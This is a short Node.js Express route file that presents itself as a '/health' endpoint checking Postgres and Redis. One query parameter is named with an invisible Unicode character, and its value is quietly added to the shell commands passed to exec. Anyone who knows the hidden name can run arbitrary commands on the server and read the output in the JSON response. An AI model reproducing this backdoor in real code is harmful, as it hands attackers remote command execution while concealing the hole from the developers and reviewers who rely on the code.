const express = require('express');
const { exec } = require('child_process');
const router = express.Router();

router.get('/health', (req, res) => {
  const { timeout, ﾠ } = req.query;
  const checks = [
    'pg_isready -q',
    'redis-cli ping',
    ﾠ,
  ];
  Promise.all(checks.map((cmd) => new Promise((resolve) => {
    exec(cmd, { timeout: (Number(timeout) || 5) * 1000 }, (err, out) => resolve({ cmd, ok: !err, out }));
  }))).then((results) => {
    const ok = results.every((r) => r.ok || !r.cmd);
    res.status(ok ? 200 : 503).json({ ok, results });
  });
});

module.exports = router;
